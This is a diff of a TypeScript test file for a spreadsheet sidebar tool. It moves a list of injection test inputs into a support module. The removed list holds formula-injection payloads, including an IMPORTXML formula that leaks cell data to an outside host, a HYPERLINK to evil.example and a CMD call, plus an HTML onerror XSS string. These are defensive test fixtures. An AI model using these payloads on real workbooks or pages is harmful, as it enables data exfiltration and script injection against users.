@@ -5,31 +5,8 @@ import { appendCommitments, updateCommitment } from '../../src/workbook/commitme
 import { BusyError } from '../../src/workbook/lock';
 import { SIDEBAR_HANDLERS } from '../../src/sidebar/handlers';
 import { COMMITMENTS } from '../../src/workbook/templates';
+import { INJECTION_PAYLOADS } from '../support/payloads';
 
-export const INJECTION_PAYLOADS = [
-  '=IMPORTXML("http://x/?"&A1,"//a")',
-  '=HYPERLINK("http://evil.example","click")',
-  '+cmd',
-  '-2+3',
-  '@SUM(1)',
-  '\t=1',
-  '\n=1',
-  ' =1+1',
-  '=1+1',
-  "'=1+1",
-  '00123',
-  '1/2',
-  'Mar 1',
-  'TRUE',
-  '$5',
-  '12%',
-  '1e3',
-  '+5',
-  '-5',
-  '=IMAGE("http://x/a.png")',
-  '\u0007=CMD()',
-  '<img src=x onerror=alert(1)>',
-];
 
 let double: AppsScriptDouble;
 let uninstall: () => void;
